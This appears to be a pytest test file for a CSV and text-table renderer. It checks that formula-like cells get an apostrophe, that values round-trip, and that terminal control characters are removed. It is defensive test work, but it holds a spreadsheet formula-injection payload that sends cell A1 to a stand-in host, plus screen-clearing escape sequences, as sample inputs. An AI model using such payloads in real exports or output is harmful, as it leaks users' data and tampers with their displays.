"""A spreadsheet computes nothing of our CSV, a terminal obeys none of it; all can be put back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quotaplane.console.text_table import escape_cell, render, unescape_cell


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t"])
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(first: str) -> None:
    text = f'{first}HYPERLINK("http://x/"&A1)'
    assert cells(render((text, "n"), [(text, 1)], "csv")) == [[f"'{text}", "n"], [f"'{text}", "1"]]
    assert text.strip() in render(("g",), [(text,)], "table")


def test_numbers_stay_numbers() -> None:
    row = (-1, -1.5, Decimal("-2"), float("-inf"), None, False, "1-2", b"\xfb\xf0")
    found = cells(render(tuple("abcdefgh"), [row], "csv"))[1]
    assert found == ["-1", "-1.5", "-2", "-inf", "", "False", "1-2", "'+/A="]


@given(st.text(alphabet="'=+-@\t\rab\\\x1bxu1\x9b\u202e\n", max_size=8) | st.text(max_size=6))
def test_every_text_comes_back(text: str) -> None:
    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    assert all(each.isprintable() or each in "\t\n" for each in cell) or not text.isascii()
    assert cell[:1] not in tuple("=+-@\t\r")


@pytest.mark.parametrize("control", ["\x1b", "\x9b", "\x7f", "\r", "\b", "\0", "\u202e"])
def test_a_terminal_is_given_no_control_characters(control: str) -> None:
    text = f"a{control}[2J"
    printed = render((text,), [(text,)], "csv")
    assert control not in printed
    assert [unescape_cell(line[0]) for line in cells(printed)] == [text, text]
